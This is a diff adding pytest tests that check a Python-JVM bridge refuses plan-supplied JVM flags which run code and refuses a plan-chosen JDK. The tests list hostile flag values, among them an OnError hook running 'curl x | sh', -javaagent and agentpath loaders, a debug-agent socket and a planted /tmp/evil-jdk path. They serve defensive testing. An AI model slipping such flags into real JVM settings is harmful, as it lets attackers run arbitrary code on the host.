@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -265,3 +266,76 @@ def test_a_runtime_refuses_an_allowed_name_that_is_a_re_exported_standard_librar
         "trigger_conditions": ["_input_event"]}}})
     with pytest.raises(PlanError, match="subprocess.run"):
         Runtime(plan, allow=["reexporting_pkg"])
+
+
+# -- JVM settings from the plan ------------------------------------------------------------------------------
+def _with_conf(conf: dict) -> dict:
+    return {**_plan_data(_action("python_actions.demo", "enrich")), "config": {"conf_data": conf}}
+
+
+CODE_RUNNING_FLAGS = ["-XX:OnOutOfMemoryError=touch /tmp/pwned", "-XX:OnError=sh -c 'curl x | sh'",
+                      "-javaagent:/tmp/agent.jar", "-agentpath:/tmp/libagent.so", "-agentlib:jdwp=transport=dt_socket",
+                      "-Xrunhprof", "-XX:VMOptionsFile=/tmp/more-flags", "-XX:Flags=/tmp/.hotspotrc"]
+
+
+@pytest.mark.parametrize("flag", CODE_RUNNING_FLAGS)
+@pytest.mark.parametrize("form", ["list", "string"])
+def test_a_plan_may_not_set_jvm_flags_that_run_code(flag: str, form: str, tmp_path: Path) -> None:
+    options = ["-Xmx1g", flag] if form == "list" else "-Xmx1g " + shlex.join([flag])
+    data = _with_conf({"bridge.jvm.options": options})
+    with pytest.raises(PlanError) as info:
+        Runtime(plan_from_data(data))
+    message = str(info.value)
+    assert info.value.path == "config.conf_data.bridge.jvm.options"
+    assert flag.split("=")[0].split(":")[0][:8] in message and "BRIDGE_JVM_OPTIONS" in message
+    assert "not to the plan" in message and "-Xmx1g" not in message
+    # an allow list does not make them acceptable: they are not names, they are the process owner's choice
+    with pytest.raises(PlanError, match="BRIDGE_JVM_OPTIONS"):
+        check_allowed(plan_from_data(data), ["python_actions"])
+
+
+def test_a_bad_quote_does_not_hide_a_code_running_flag() -> None:
+    data = _with_conf({"bridge.jvm.options": "-javaagent:/tmp/a.jar -Dx='unbalanced"})
+    with pytest.raises(PlanError, match="-javaagent"):
+        check_allowed(plan_from_data(data))
+
+
+def test_ordinary_jvm_flags_and_java_home_without_an_allow_list_are_the_plans_to_set() -> None:
+    check_allowed(plan_from_data(_with_conf({"bridge.jvm.options": ["-Xmx2g", "-Dgreeting=hi", "-XX:+UseG1GC"],
+                                             "bridge.jvm.java_home": "/usr/lib/jvm/some-jdk"})))
+
+
+def test_a_plan_may_not_choose_the_jdk_when_an_allow_list_is_given(monkeypatch) -> None:
+    data = _with_conf({"bridge.jvm.java_home": "/tmp/evil-jdk"})
+    with pytest.raises(PlanError) as info:
+        check_allowed(plan_from_data(data), ["python_actions"])
+    assert info.value.path == "config.conf_data.bridge.jvm.java_home"
+    assert "set JAVA_HOME" in str(info.value) and "/tmp/evil-jdk" in str(info.value)
+    monkeypatch.setenv("BRIDGE_ALLOW", "python_actions")
+    with pytest.raises(PlanError, match="set JAVA_HOME"):
+        Runtime(plan_from_data(data))
+
+
+def test_bridge_run_and_validate_refuse_a_plan_setting_on_error_before_anything_runs(tmp_path: Path) -> None:
+    marker = tmp_path / "ran"
+    (tmp_path / "marker_action.py").write_text(
+        f"from pathlib import Path\n\ndef act(event, ctx):\n    Path({str(marker)!r}).write_text('ran')\n")
+    data = {**_plan_data(_action("marker_action", "act")),
+            "config": {"conf_data": {"bridge.jvm.options": [f"-XX:OnError=touch {marker}"]}}}
+    plan = _write_plan(tmp_path, data)
+    inputs = tmp_path / "in.jsonl"
+    inputs.write_text('{"key": "a", "input": 1}\n')
+    result = subprocess.run([sys.executable, "-m", "bridge.cli", "run", str(plan), "--input", str(inputs)],
+                            cwd=tmp_path, capture_output=True, text=True, timeout=120)
+    assert result.returncode == 2, result.stderr
+    assert "config.conf_data.bridge.jvm.options" in result.stderr and "BRIDGE_JVM_OPTIONS" in result.stderr
+    assert not marker.exists()
+    checked = CliRunner().invoke(main, ["validate", str(plan)])
+    assert checked.exit_code == 2 and "-XX:OnError" in checked.output
+
+
+def test_the_process_owner_may_still_pass_such_flags_in_bridge_jvm_options(monkeypatch) -> None:
+    from bridge.jvm._discovery import options_from_config
+
+    monkeypatch.setenv("BRIDGE_JVM_OPTIONS", "-XX:OnOutOfMemoryError=true")
+    assert "-XX:OnOutOfMemoryError=true" in options_from_config({}).jvm_args
